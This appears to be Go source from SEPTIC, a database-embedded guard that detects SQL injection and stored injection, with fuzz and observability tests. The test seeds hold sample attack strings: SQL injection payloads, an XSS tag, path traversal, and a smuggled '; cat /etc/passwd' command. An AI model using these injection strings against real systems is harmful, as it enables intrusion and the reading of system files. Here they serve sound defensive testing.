	// refused with ErrReadOnly. Read only on the hook's write paths — the
	// cached-hit path never touches it. Cleared by ReplicaState.Promote.
	replica atomic.Bool
	// replicaState is the replication apply state, nil on a primary.
	replicaState *ReplicaState

	// obs is the observability hub; nil (the default) disables all
	// instrumentation. The histogram handles are resolved once in New so
	// the hook path never touches the registry map.
	obs      *obs.Hub
	hookHit  *obs.Histogram // verdict-cache hit: the memoized fast path
	hookFull *obs.Histogram // full pipeline: ID + store + detection
}

// Interface compliance: Septic is an engine hook.
var _ engine.QueryHook = (*Septic)(nil)

// SepticOption configures construction.
type SepticOption func(*Septic)

// WithLogger installs a custom event register.
func WithLogger(l *Logger) SepticOption {
	return func(s *Septic) { s.logger = l }
}

// WithPlugins replaces the stored-injection plugin chain.
func WithPlugins(plugins []Plugin) SepticOption {
	return func(s *Septic) { s.detector = NewDetector(plugins) }
}

// WithStore installs a pre-loaded model store (e.g. read from disk) as
// the DEFAULT domain's store. Registered domains always start with their
// own fresh store; load them through Domain.Store().Load.
func WithStore(store *Store) SepticOption {
	return func(s *Septic) { s.store = store }
}

// WithIDGenerator replaces the query-identifier generator.
func WithIDGenerator(g *IDGenerator) SepticOption {
	return func(s *Septic) { s.idgen = g }
}

// WithObserver installs an observability hub: hook latency histograms,
// pipeline counters exported as gauge funcs, and structured events
// (attacks, guard faults, store mutations, cache invalidations, mode
// changes) published to the hub's ring. A nil hub — the default — keeps
// every instrumentation site on its single-pointer-check disabled path.
func WithObserver(h *obs.Hub) SepticOption {
	return func(s *Septic) { s.obs = h }
}

// WithVerdictCacheCapacity bounds each domain's verdict cache to n
// entries; n = 0 disables verdict caching entirely (every query runs
// the full pipeline — the ablation configuration for benchmarks).
func WithVerdictCacheCapacity(n int) SepticOption {
	return func(s *Septic) { s.verdictCap = n }
}

// New builds a SEPTIC instance with the given configuration (which
// becomes the default domain's configuration).
func New(cfg Config, opts ...SepticOption) *Septic {
	s := &Septic{
		idgen:      NewIDGenerator(),
		store:      NewStore(),
		detector:   NewDetector(DefaultPlugins()),
		logger:     NewLogger(),
		verdictCap: DefaultVerdictCacheCapacity,
	}
	for _, o := range opts {
		o(s)
	}
	s.def = s.newDomain(DefaultDomain, cfg, s.store)
	empty := make(map[string]*Domain)
	s.domains.Store(&empty)
	if s.obs != nil {
		m := s.obs.Metrics
		s.hookHit = m.Histogram("core.hook.cached_hit")
		s.hookFull = m.Histogram("core.hook.full")
		// The unqualified core.* gauges aggregate over every domain, so a
		// single-tenant deployment reads exactly what it always did and a
		// multi-tenant one gets the fleet totals; per-domain breakdowns
		// live under core.domain.<name>.* (registerDomainGauges).
		m.GaugeFunc("core.queries_seen", func() int64 { return s.Stats().QueriesSeen })
		m.GaugeFunc("core.models_learned", func() int64 { return s.Stats().ModelsLearned })
		m.GaugeFunc("core.attacks_found", func() int64 { return s.Stats().AttacksFound })
		m.GaugeFunc("core.attacks_blocked", func() int64 { return s.Stats().AttacksBlocked })
		m.GaugeFunc("core.guard_faults", func() int64 { return s.Stats().GuardFaults })
		m.GaugeFunc("core.store.identifiers", func() int64 { return int64(s.store.Len()) })
		m.GaugeFunc("core.store.models", func() int64 { return int64(s.store.ModelCount()) })
		m.GaugeFunc("core.verdict_cache.entries", func() int64 { return int64(s.CacheStats().Entries) })
		m.GaugeFunc("core.verdict_cache.hits", func() int64 { return s.CacheStats().Hits })
		m.GaugeFunc("core.verdict_cache.misses", func() int64 { return s.CacheStats().Misses })
		m.GaugeFunc("core.verdict_cache.evictions", func() int64 { return s.CacheStats().Evictions })
		m.GaugeFunc("core.verdict_cache.invalidations", func() int64 { return s.CacheStats().Invalidations })
	}
	return s
}

// newDomain builds one protection domain over a store. Called from New
// (default domain) and RegisterDomain.
func (s *Septic) newDomain(name string, cfg Config, store *Store) *Domain {
	d := &Domain{name: name, sep: s, store: store,
		verdicts: newVerdictCache(s.verdictCap)}
	d.cfg.Store(&cfg)
	d.ovl.Store(overload.NewControls(nil, nil))
	if s.obs != nil {
		store.SetObserver(s.obs)
		d.verdicts.setObserver(s.obs)
	}
	return d
}

// Mode returns the default domain's operation mode.
func (s *Septic) Mode() Mode {
	return s.def.Mode()
}

// Config returns the default domain's configuration.
func (s *Septic) Config() Config {
	return s.def.Config()
}

// SetMode switches the default domain's operation mode (the demo
// "restarts MySQL" for this; here it is atomic). Registered domains are
// untouched — switch them through Domain.SetMode.
func (s *Septic) SetMode(m Mode) {
	s.def.SetMode(m)
}

// SetConfig replaces the default domain's whole configuration.
func (s *Septic) SetConfig(cfg Config) {
	s.def.SetConfig(cfg)
}

// Store exposes the default domain's learned-model store (persistence,
// admin review). Registered domains own their stores: Domain.Store.
func (s *Septic) Store() *Store { return s.store }

// Logger exposes the event register (the demo display reads it). The
// register is shared by every domain; events carry the domain name.
func (s *Septic) Logger() *Logger { return s.logger }

// Stats returns a snapshot of the work counters, aggregated over every
// protection domain (single-tenant deployments have only the default
// domain, so this is exactly the pre-domain behaviour). The counters
// are separate atomics, so a snapshot taken under load is not a
// consistent cut — but it is guaranteed never to over-report: within
// one query the increments are ordered seen → found → blocked, and each
// domain snapshot reads the DEPENDENT counter before its antecedent
// (blocked before found before seen). Any concurrent query that slips
// between the reads can only inflate the later-read antecedent, so the
// invariants AttacksBlocked ≤ AttacksFound ≤ QueriesSeen hold in every
// per-domain snapshot — and summing per-domain snapshots that each hold
// the invariant preserves it.
func (s *Septic) Stats() Stats {
	out := s.def.Stats()
	for _, d := range *s.domains.Load() {
		out.add(d.Stats())
	}
	return out
}

// CacheStats returns the verdict-cache counters aggregated over every
// domain's cache partition.
func (s *Septic) CacheStats() CacheStats {
	out := s.def.verdicts.stats()
	for _, d := range *s.domains.Load() {
		out.add(d.verdicts.stats())
	}
	return out
}

// stackPool recycles query-structure node slices across hook
// invocations. The detector only reads the stack and ModelOf clones it,
// so a stack can be returned to the pool as soon as the hook decides;
// nothing retains the backing array (Node fields are values and strings,
// which do not alias it).
var stackPool = sync.Pool{
	New: func() any {
		s := make(qstruct.Stack, 0, 64)
		return &s
	},
}

// BeforeExecute implements engine.QueryHook: the in-DBMS hook point.
// It first routes the query to its protection domain (one atomic
// snapshot load plus at most one map lookup — see Septic.domainFor),
// then resolves the query identifier and — depending on the domain's
// mode — learns the model or runs detection. The query structure is
// only materialized when something needs it (training, incremental
// learning, or an active detection): with both detections off the hook
// reduces to an ID computation and a store lookup, which is what makes
// the paper's NN configuration nearly free (§II-F: 0.5% overhead).
//
// Benign outcomes are additionally memoized by exact decoded query text
// in the domain's verdict-cache partition: a byte-identical repeat of a
// query already found benign under the domain's current configuration
// and model store skips ID generation, the store lookup and detection
// entirely. The memo is keyed on ctx.Decoded, which is sound because
// the parser derives the AST from exactly that text (identical decoded
// text ⇒ identical AST ⇒ identical verdict while configuration and
// models are unchanged), and generation stamps guarantee the
// "unchanged" part: any SetMode/SetConfig or store mutation ON THAT
// DOMAIN bumps a counter and orphans every older entry. Partitioning
// per domain is what makes the cache sound under multi-tenancy: the key
// is query text, and two applications may issue byte-identical text
// that must be judged against different model stores. Attacks are never
// cached — each occurrence is detected, logged and blocked afresh.
//
// The hook is panic-contained: a fault anywhere in the protection path
// (ID generation, structure building, a detector plugin) is recovered
// and converted into an error (fail-closed, the default) or a logged
// admission (fail-open) per the DOMAIN's policy — it never unwinds into
// the engine and takes the session or the server down. See
// Config.FailOpen.
//
// When the domain carries a detection circuit breaker (SetOverload), it
// gates the MISS path only: contained guard faults and slow pipeline
// runs feed its rolling window, and while it is open a miss is answered
// by the domain's brownout stance (see brownout) instead of running
// detection. The cached-hit path stays in this function body, before
// the breaker check, so known-benign traffic is served throughout a
// brownout and the hit path's cost is unchanged — zero overload work,
// preserving BenchmarkHookCached's 0-alloc, single-digit-ns profile.
// The miss pipeline lives in runMiss; the extra call is nanoseconds
// against a pipeline measured in hundreds.
func (s *Septic) BeforeExecute(ctx *engine.HookContext) (err error) {
	// Domain routing runs outside the containment shell: it is a map
	// lookup plus byte scans over a bounded comment — no panic surface —
	// and the shell needs the domain to apply the right fail policy.
	d := s.domainFor(ctx)
	defer func() {
		if r := recover(); r != nil {
			err = s.containFault(d, ctx, r)
		}
	}()
	faultinject.Hit(faultinject.SiteCoreHook)
	// Timing is the only instrumentation with a per-call cost when obs is
	// disabled, so it hides behind the one nil check; the Observe calls
	// below are nil-safe on their own.
	var obsStart time.Time
	if s.obs != nil {
		obsStart = time.Now()
	}
	// Generation stamps are read BEFORE any verdict work. If a
	// configuration or store mutation lands while this query is being
	// checked, the stamps are already behind the bumped counters and the
	// verdict cached below self-invalidates on its first lookup.
	cfgGen := d.cfgGen.Load()
	storeGen := d.store.Generation()
	cfg := *d.cfg.Load()
	d.queriesSeen.Add(1)

	if cfg.Mode != ModeTraining {
		if v, ok := d.verdicts.lookup(ctx.Decoded, cfgGen, storeGen); ok {
			if v.set != nil {
				v.set.hits.Add(1) // keep the admin usage report exact
			}
			if v.checked {
				s.logger.LogQueryChecked(v.id, ctx.Decoded)
			}
			if s.obs != nil {
				s.hookHit.Observe(time.Since(obsStart))
			}
			return nil
		}
		// Verdict-cache miss: the full pipeline is about to run. The
		// domain's breaker — one atomic pointer load plus, when armed,
		// one atomic state load — decides whether it may.
		if brk := d.ovl.Load().Breaker; brk != nil {
			if !brk.Allow() {
				return s.brownout(d, cfg)
			}
			start := time.Now()
			err := s.runMiss(d, ctx, cfg, cfgGen, storeGen, obsStart)
			// A blocked attack is a SUCCESSFUL pipeline run; failures
			// reach the breaker through containFault (panics), and slow
			// runs through the elapsed time.
			brk.RecordResult(false, time.Since(start))
			return err
		}
	}
	return s.runMiss(d, ctx, cfg, cfgGen, storeGen, obsStart)
}

// brownout answers a verdict-cache miss while the domain's detection
// breaker is open: detection does not run, nothing is learned or
// cached, and the domain's fail stance decides the query's fate —
// fail-open admits it unchecked (availability over protection),
// fail-closed (the default) blocks it, wrapping engine.ErrQueryBlocked
// so the engine books it as a block. Cache hits never reach here (the
// lookup precedes the breaker), so known-benign traffic is served from
// the verdict cache for the whole brownout.
func (s *Septic) brownout(d *Domain, cfg Config) error {
	d.brownouts.Add(1)
	if cfg.FailOpen {
		return nil
	}
	return fmt.Errorf("%w: septic brownout (fail-closed): detection pipeline circuit open",
		engine.ErrQueryBlocked)
}

// runMiss is the full pipeline behind the verdict cache: ID generation,
// training/incremental learning, store lookup, and detection. Split
// from BeforeExecute so the breaker can time one complete run; it
// executes under BeforeExecute's containment shell (a panic here
// unwinds to containFault, which also books the breaker failure).
func (s *Septic) runMiss(d *Domain, ctx *engine.HookContext, cfg Config,
	cfgGen, storeGen uint64, obsStart time.Time) error {
	id := s.idgen.ID(ctx.Stmt, ctx.Comments)

	if cfg.Mode == ModeTraining {
		if s.replica.Load() {
			// A replica's stores are owned by the replication applier;
			// training traffic must go to the primary. Refusing loudly
			// beats silently not learning — the operator pointed a
			// training workload at the wrong node.
			s.observeFull(obsStart)
			return fmt.Errorf("%w: training writes must go to the primary", ErrReadOnly)
		}
		// Training never consults or feeds the cache: every execution
		// must reach the store so variants keep being learned.
		s.learn(d, id, ctx.Decoded, qstruct.BuildStack(ctx.Stmt), EventModelLearned)
		s.observeFull(obsStart)
		return nil
	}

	models, set, known := d.store.getSet(id)
	if !known {
		if cfg.IncrementalLearning && !s.replica.Load() {
			// Incremental training (§II-E): learn and execute; the
			// administrator later reviews whether the new model came
			// from a benign query. Not cached — the Put just bumped the
			// store generation, so the entry would be stillborn anyway,
			// and the next repeat takes the known-identifier path.
			s.learn(d, id, ctx.Decoded, qstruct.BuildStack(ctx.Stmt), EventNewQuery)
			s.observeFull(obsStart)
			return nil
		}
		// Unknown identifier with learning off: executes unchecked by
		// design; memoize so repeats skip the ID recomputation.
		d.verdicts.insert(ctx.Decoded, &verdict{id: id, cfgGen: cfgGen, storeGen: storeGen})
		s.observeFull(obsStart)
		return nil
	}

	if !cfg.DetectSQLI && !cfg.DetectStored {
		// NN: nothing to check.
		d.verdicts.insert(ctx.Decoded, &verdict{id: id, set: set, cfgGen: cfgGen, storeGen: storeGen})
		s.observeFull(obsStart)
		return nil
	}
	faultinject.Hit(faultinject.SiteCoreDetect)
	sp := stackPool.Get().(*qstruct.Stack)
	qs := qstruct.BuildStackInto((*sp)[:0], ctx.Stmt)
	if cfg.DetectSQLI {
		if det, attack := s.detector.DetectSQLI(qs, models); attack {
			*sp = qs
			stackPool.Put(sp)
			s.observeFull(obsStart)
			return s.report(d, cfg, id, ctx, det)
		}
	}
	if cfg.DetectStored {
		if det, attack := s.detector.DetectStored(ctx.Stmt, qs); attack {
			*sp = qs
			stackPool.Put(sp)
			s.observeFull(obsStart)
			return s.report(d, cfg, id, ctx, det)
		}
	}
	*sp = qs
	stackPool.Put(sp)
	s.logger.LogQueryChecked(id, ctx.Decoded)
	d.verdicts.insert(ctx.Decoded, &verdict{id: id, checked: true, set: set, cfgGen: cfgGen, storeGen: storeGen})
	s.observeFull(obsStart)
	return nil
}

// observeFull records one full-pipeline hook duration; a no-op when
// observability is disabled (start is then the zero Time and must not be
// measured against).
func (s *Septic) observeFull(start time.Time) {
	if s.obs == nil {
		return
	}
	s.hookFull.Observe(time.Since(start))
}

// containFault turns a recovered protection-path panic into the
// domain's policy outcome: an incident is always counted and logged
// with the panic value and stack; fail-closed then blocks the query
// (the error wraps engine.ErrQueryBlocked so the engine books it as a
// block) and fail-open admits it.
func (s *Septic) containFault(d *Domain, ctx *engine.HookContext, r any) error {
	d.guardFaults.Add(1)
	// A contained fault is a detection-pipeline failure: the domain's
	// breaker (if any) counts it toward the trip rate, so a faulting
	// pipeline browns out instead of panicking per-query forever.
	d.ovl.Load().Breaker.RecordResult(true, 0)
	cfg := *d.cfg.Load()
	policy := "fail-closed"
	if cfg.FailOpen {
		policy = "fail-open"
	}
	stack := debug.Stack()
	if len(stack) > 4096 {
		stack = stack[:4096]
	}
	s.logger.Log(Event{
		Kind:   EventGuardFault,
		Domain: d.name,
		Query:  ctx.Decoded,
		Detail: fmt.Sprintf("panic in protection path (%s): %v\n%s", policy, r, stack),
	})
	if s.obs != nil {
		action := "blocked"
		if cfg.FailOpen {
			action = "admitted"
		}
		s.obs.Publish(obs.Event{
			Kind:   obs.KindGuardFault,
			Query:  ctx.Decoded,
			Action: action,
			Detail: fmt.Sprintf("panic in protection path (%s, domain %s): %v", policy, d.name, r),
		})
	}
	if cfg.FailOpen {
		return nil
	}
	return fmt.Errorf("%w: septic guard fault (fail-closed): %v", engine.ErrQueryBlocked, r)
}

// learn stores the query model in the domain's store if it is new and
// logs the event; a model already known for the ID is never re-added
// (demo phase C). Models learned outside training mode are flagged for
// administrator review.
func (s *Septic) learn(d *Domain, id, query string, qs qstruct.Stack, kind EventKind) {
	qm := qstruct.ModelOf(qs)
	if !d.store.Put(id, qm, kind == EventNewQuery) {
		return
	}
	d.modelsLearned.Add(1)
	s.logger.Log(Event{Kind: kind, Domain: d.name, QueryID: id, Query: query,
		Detail: fmt.Sprintf("model learned (%d nodes)", len(qm.Nodes))})
}

// report logs the attack against the domain and, in prevention mode,
// blocks the query.
func (s *Septic) report(d *Domain, cfg Config, id string, ctx *engine.HookContext, det Detection) error {
	d.attacksFound.Add(1)
	blocked := cfg.Mode == ModePrevention
	if blocked {
		d.attacksBlocked.Add(1)
	}

	kind := EventAttackDetected
	if blocked {
		kind = EventAttackBlocked
	}
	s.logger.Log(Event{
		Kind:    kind,
		Domain:  d.name,
		QueryID: id,
		Query:   ctx.Decoded,
		Attack:  det.Attack,
		Step:    det.Step,
		Plugin:  det.Plugin,
		Detail:  det.Detail,
	})
	if s.obs != nil {
		// The skeleton render is attack-path-only work: attacks are rare
		// and never cached, so the formatting cost stays off benign
		// traffic entirely.
		detector := "sqli/" + det.Step.String()
		if det.Attack == AttackStored {
			detector = "stored/" + det.Plugin
		}
		action := "logged"
		if blocked {
			action = "blocked"
		}
		s.obs.Publish(obs.Event{
			Kind:     obs.KindAttack,
			Query:    ctx.Decoded,
			Skeleton: qstruct.Skeleton(ctx.Stmt),
			QueryID:  id,
			Detector: detector,
			Distance: det.Distance,
			Class:    det.Attack.String(),
			Action:   action,
			Detail:   det.Detail,
		})
	}
	if !blocked {
		return nil // detection mode: log only, let the query run
	}
	return fmt.Errorf("%w: septic %s (%s)", engine.ErrQueryBlocked, det.Attack, det.Detail)
}
