package core

import (
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/sqlparser"
)

// FuzzBeforeExecute drives arbitrary parseable statements through the
// whole protection path — decode, stack building, identifier hashing,
// model lookup, both detection steps, the stored-injection plugin chain
// and the verdict cache — against a guard trained on the paper's Fig. 2
// query. Two invariants:
//
//  1. The hook NEVER panics. Detector panics must be swallowed by the
//     fault containment layer; one escaping to the fuzzer is a bug in
//     that layer as much as in the detector.
//  2. The verdict is deterministic: a second call with the identical
//     context must block iff the first call blocked. The first call may
//     be served by the full path (or learn the model incrementally) and
//     the second by the verdict cache, so this pins cache/full-path
//     agreement — the exact property a poisoned cache entry would break.
func FuzzBeforeExecute(f *testing.F) {
	seeds := []string{
		"SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234",
		"SELECT * FROM tickets WHERE reservID = 'ID34FG\u02bc-- ' AND creditCard = 0",
		"SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0",
		"SELECT * FROM tickets WHERE reservID = 'x' OR '1'='1' AND creditCard = 1234",
		"SELECT * FROM tickets WHERE reservID = '<script>alert(1)</script>' AND creditCard = 1",
		"SELECT * FROM tickets WHERE reservID = '../../etc/passwd' AND creditCard = 1",
		"SELECT * FROM tickets WHERE reservID = '; cat /etc/passwd' AND creditCard = 1",
		"INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234)",
		"SELECT 1",
		// Malformed external-identifier comments: embedded control bytes,
		// oversized bodies and unterminated openers. ExternalID must reject
		// (not crash on) the parseable ones; the parser rejects the rest.
		"/* app:q1 */ SELECT * FROM tickets WHERE reservID = 'a' AND creditCard = 1",
		"/* app:q1\ninjected */ SELECT * FROM tickets WHERE reservID = 'a' AND creditCard = 1",
		"/* a\x00b\x7fc */ SELECT * FROM tickets WHERE reservID = 'a' AND creditCard = 1",
		"/* pad:" + strings.Repeat("x", MaxExternalIDLen+1) +
			" */ SELECT * FROM tickets WHERE reservID = 'a' AND creditCard = 1",
		"/* unterminated SELECT * FROM tickets WHERE reservID = 'a'",
		"/*/ SELECT 1",
		"/**/ SELECT * FROM tickets WHERE reservID = 'a' AND creditCard = 1",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	const trainQ = "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234"
	f.Fuzz(func(t *testing.T, query string) {
		decoded := sqlparser.DecodeCharset(query)
		stmt, err := sqlparser.Parse(decoded)
		if err != nil {
			return // the engine rejects it before the hook runs
		}
		sep := New(Config{Mode: ModeTraining},
			WithLogger(NewLogger(WithCheckedSampling(0))))
		if err := sep.BeforeExecute(hookCtxFor(t, trainQ)); err != nil {
			t.Fatalf("training: %v", err)
		}
		sep.SetConfig(DefaultConfig())

		hctx := &engine.HookContext{
			Raw:      query,
			Decoded:  decoded,
			Stmt:     stmt,
			Comments: stmt.StatementComments(),
		}
		err1 := sep.BeforeExecute(hctx)
		err2 := sep.BeforeExecute(hctx)
		if (err1 == nil) != (err2 == nil) {
			t.Fatalf("verdict flipped between calls for %q:\n first: %v\nsecond: %v",
				decoded, err1, err2)
		}
	})
}
