package core

import (
	"strings"
	"sync"
	"testing"

	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/obs"
)

// fig2Benign / fig3Attack are the paper's running example: the benign
// ticket lookup of Fig. 2 and the second-order injection of Fig. 3
// (the prime ʼ U+02BC decodes to a closing quote).
const (
	fig2Benign = "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234"
	fig3Attack = "SELECT * FROM tickets WHERE reservID = 'ID34FGʼ-- ' AND creditCard = 0"
)

// obsDeployment builds an instrumented engine+guard, trained on the
// Fig. 2 query and switched to prevention.
func obsDeployment(t *testing.T) (*obs.Hub, *engine.DB, *Septic) {
	t.Helper()
	hub := obs.NewHub(128)
	sep := New(Config{Mode: ModeTraining}, WithObserver(hub),
		WithLogger(NewLogger(WithCheckedSampling(0))))
	db := engine.New(engine.WithQueryHook(sep), engine.WithObs(hub))
	for _, q := range []string{
		"CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, reservID TEXT, creditCard INT)",
		"INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234)",
		fig2Benign, // learn the model
	} {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("setup %q: %v", q, err)
		}
	}
	sep.SetConfig(DefaultConfig())
	return hub, db, sep
}

// TestObsEndToEnd replays the paper's Fig. 2/3 pair through an
// instrumented deployment and asserts the whole observable surface: the
// stage and hook histograms fill, the attack lands in the event ring
// with its detector, distance and action, and the mode change and store
// mutations are there too.
func TestObsEndToEnd(t *testing.T) {
	hub, db, _ := obsDeployment(t)

	if _, err := db.Exec(fig2Benign); err != nil { // full pipeline (miss)
		t.Fatalf("benign: %v", err)
	}
	if _, err := db.Exec(fig2Benign); err != nil { // cached hit
		t.Fatalf("benign repeat: %v", err)
	}
	if _, err := db.Exec(fig3Attack); err == nil {
		t.Fatal("Fig. 3 attack executed in prevention mode")
	}

	snap := hub.Metrics.Snapshot()
	for _, name := range []string{
		"engine.stage.parse.cache_miss",
		"engine.stage.parse.cache_hit",
		"engine.stage.validate",
		"engine.stage.hook",
		"engine.stage.execute",
		"engine.stage.total",
		"core.hook.cached_hit",
		"core.hook.full",
	} {
		if snap.Histograms[name].Count == 0 {
			t.Errorf("histogram %q empty after the replay", name)
		}
	}
	if snap.Gauges["core.attacks_blocked"] != 1 {
		t.Errorf("core.attacks_blocked = %d, want 1", snap.Gauges["core.attacks_blocked"])
	}
	if snap.Gauges["core.store.identifiers"] == 0 {
		t.Error("store gauges did not report the learned model")
	}

	attacks := hub.Events.Recent(obs.KindAttack, 0)
	if len(attacks) != 1 {
		t.Fatalf("attack events = %d, want 1", len(attacks))
	}
	a := attacks[0]
	if a.Detector != "sqli/structural" {
		t.Errorf("detector = %q, want sqli/structural (Fig. 3 changes the stack shape)", a.Detector)
	}
	if a.Distance == 0 {
		t.Error("attack event has zero distance")
	}
	if a.Class != "sqli" || a.Action != "blocked" {
		t.Errorf("class/action = %q/%q, want sqli/blocked", a.Class, a.Action)
	}
	if a.Skeleton == "" || !strings.Contains(a.Query, "--") {
		t.Errorf("event missing skeleton or query text: %+v", a)
	}
	if len(hub.Events.Recent(obs.KindMode, 0)) == 0 {
		t.Error("SetConfig published no mode event")
	}
	if len(hub.Events.Recent(obs.KindStore, 0)) == 0 {
		t.Error("model learning published no store event")
	}
}

// TestObsSyntacticalDistance drives the Fig. 4 mimicry attack (same
// node count, mismatching nodes) and checks the syntactical detector
// and the first-mismatch distance are reported.
func TestObsSyntacticalDistance(t *testing.T) {
	hub, db, _ := obsDeployment(t)
	mimicry := "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1=1-- ' AND creditCard = 0"
	if _, err := db.Exec(mimicry); err == nil {
		t.Fatal("Fig. 4 mimicry executed in prevention mode")
	}
	attacks := hub.Events.Recent(obs.KindAttack, 0)
	if len(attacks) != 1 {
		t.Fatalf("attack events = %d, want 1", len(attacks))
	}
	if attacks[0].Detector != "sqli/syntactical" {
		t.Errorf("detector = %q, want sqli/syntactical", attacks[0].Detector)
	}
	if attacks[0].Distance == 0 {
		t.Error("syntactical distance should point at the first mismatching node index")
	}
}

// TestObsCacheInvalidationEvent checks a config bump surfaces as a
// KindCache event when the stale entry is next looked up.
func TestObsCacheInvalidationEvent(t *testing.T) {
	hub, db, sep := obsDeployment(t)
	if _, err := db.Exec(fig2Benign); err != nil { // populate the cache
		t.Fatalf("benign: %v", err)
	}
	cfg := sep.Config()
	cfg.DetectStored = !cfg.DetectStored
	sep.SetConfig(cfg) // bump the config generation
	if _, err := db.Exec(fig2Benign); err != nil {
		t.Fatalf("benign after config change: %v", err)
	}
	events := hub.Events.Recent(obs.KindCache, 0)
	if len(events) == 0 {
		t.Fatal("stale lookup published no cache event")
	}
	if !strings.Contains(events[0].Detail, "configuration generation") {
		t.Errorf("cache event detail = %q, want a configuration-generation cause", events[0].Detail)
	}
}

// TestStatsNeverOverReports locks in the Stats read-order contract:
// under concurrent attack traffic, every snapshot must satisfy
// AttacksBlocked <= AttacksFound <= QueriesSeen. Runs meaningfully
// under -race (where it also exercises the counters for data races)
// but asserts the ordering invariant in every mode.
func TestStatsNeverOverReports(t *testing.T) {
	sep := New(DefaultConfig(), WithLogger(NewLogger(WithCheckedSampling(0))))
	benign := hookCtxFor(t, fig2Benign)
	if err := func() error { // learn under training so the attack has a model
		sep.SetMode(ModeTraining)
		defer sep.SetMode(ModePrevention)
		return sep.BeforeExecute(benign)
	}(); err != nil {
		t.Fatalf("training: %v", err)
	}
	attack := hookCtxFor(t, fig3Attack)

	done := make(chan struct{})
	var writers, reader sync.WaitGroup
	for g := 0; g < 4; g++ {
		writers.Add(1)
		go func() {
			defer writers.Done()
			for i := 0; i < 2000; i++ {
				_ = sep.BeforeExecute(attack) // blocked every time
				_ = sep.BeforeExecute(benign)
			}
		}()
	}
	reader.Add(1)
	go func() { // snapshot reader racing the writers
		defer reader.Done()
		for {
			select {
			case <-done:
				return
			default:
			}
			st := sep.Stats()
			if st.AttacksBlocked > st.AttacksFound {
				t.Errorf("torn read: blocked %d > found %d", st.AttacksBlocked, st.AttacksFound)
				return
			}
			if st.AttacksFound > st.QueriesSeen {
				t.Errorf("torn read: found %d > seen %d", st.AttacksFound, st.QueriesSeen)
				return
			}
		}
	}()
	writers.Wait()
	close(done)
	reader.Wait()

	st := sep.Stats()
	if st.AttacksFound != 4*2000 || st.AttacksBlocked != 4*2000 {
		t.Errorf("final stats: found %d blocked %d, want %d each",
			st.AttacksFound, st.AttacksBlocked, 4*2000)
	}
}
