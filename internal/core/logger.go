// Package core implements SEPTIC — SElf-Protecting daTabases prevenTIng
// attaCks — as described in the paper: a mechanism that runs inside the
// DBMS, between query validation and execution, detecting and blocking
// SQL injection and stored-injection attacks.
//
// The package mirrors the module structure of Fig. 1:
//
//   - Septic (septic.go) is the "QS&QM manager": it wires the modules
//     together, builds query structures, learns models, and implements
//     the engine's QueryHook — the in-DBMS hook point.
//   - Store (store.go) is the "QM learned" store, with persistence and
//     the administrator review extensions.
//   - IDGenerator (idgen.go) composes the external (comment-supplied)
//     and internal (skeleton-hash) query identifiers.
//   - Detector (detector.go) runs the two-step SQLI comparison and the
//     stored-injection plugin chain.
//   - Logger (this file) is the event register shown on the demo's
//     "SEPTIC events" display.
package core

import (
	"encoding/json"
	"fmt"
	"io"
	"sync"
	"sync/atomic"
	"time"

	"github.com/septic-db/septic/internal/qstruct"
)

// EventKind classifies a logger event.
type EventKind int

// Event kinds. Enums start at 1 so the zero value is invalid.
const (
	EventInvalid EventKind = iota
	// EventModelLearned: training mode stored a new query model.
	EventModelLearned
	// EventNewQuery: normal mode saw a query with no model and learned
	// it incrementally (flagged for administrator review).
	EventNewQuery
	// EventQueryChecked: a query was compared against its model and
	// passed.
	EventQueryChecked
	// EventAttackDetected: an attack was found (and logged only —
	// detection mode).
	EventAttackDetected
	// EventAttackBlocked: an attack was found and the query dropped
	// (prevention mode).
	EventAttackBlocked
	// EventModeChanged: the operation mode was switched.
	EventModeChanged
	// EventGuardFault: the protection path itself panicked and the panic
	// was contained; Detail records the panic value and the applied
	// fail-open/fail-closed policy.
	EventGuardFault
	// EventDomainRegistered: a new protection domain was created; Domain
	// carries its name and Detail its starting configuration.
	EventDomainRegistered
	// EventDurability: the durable model store reported an incident — a
	// failed WAL append, a failed or contained-panicking checkpoint.
	// Detail carries the cause; the mutation's fate is operation-specific
	// (see Store.Put vs Store.Delete).
	EventDurability
	// EventOverload: the domain's detection circuit breaker changed
	// state (brownout entry, half-open probe, recovery). Detail names
	// the transition.
	EventOverload
)

var eventKindNames = map[EventKind]string{
	EventInvalid:        "invalid",
	EventModelLearned:   "model-learned",
	EventNewQuery:       "new-query",
	EventQueryChecked:   "query-checked",
	EventAttackDetected: "attack-detected",
	EventAttackBlocked:  "attack-blocked",
	EventModeChanged:    "mode-changed",
	EventGuardFault:     "guard-fault",

	EventDomainRegistered: "domain-registered",
	EventDurability:       "durability",
	EventOverload:         "overload",
}

// String names the event kind as the demo display prints it.
func (k EventKind) String() string {
	if s, ok := eventKindNames[k]; ok {
		return s
	}
	return fmt.Sprintf("EventKind(%d)", int(k))
}

// AttackType distinguishes the two attack families SEPTIC handles.
type AttackType int

// Attack types.
const (
	AttackNone AttackType = iota
	AttackSQLI
	AttackStored
)

// String names the attack type.
func (t AttackType) String() string {
	switch t {
	case AttackNone:
		return "none"
	case AttackSQLI:
		return "sqli"
	case AttackStored:
		return "stored-injection"
	default:
		return fmt.Sprintf("AttackType(%d)", int(t))
	}
}

// Event is one entry of SEPTIC's event register. Per the paper, an
// attack record carries the received query, its identifier, its model
// and the detection step; a new-query record carries the query, model
// and identifier.
type Event struct {
	Seq     int64
	Time    time.Time
	Kind    EventKind
	QueryID string
	Query   string
	// Domain names the protection domain the event belongs to; empty on
	// events predating domains and on default-domain traffic logged
	// through the fast path.
	Domain string
	// Attack fields (zero for non-attack events).
	Attack AttackType
	// Step is which SQLI detection step fired (structural/syntactical).
	Step qstruct.CompareStep
	// Plugin names the stored-injection plugin that confirmed the
	// attack.
	Plugin string
	// Detail is a human-readable explanation.
	Detail string
}

// String renders the event as one display line.
func (e Event) String() string {
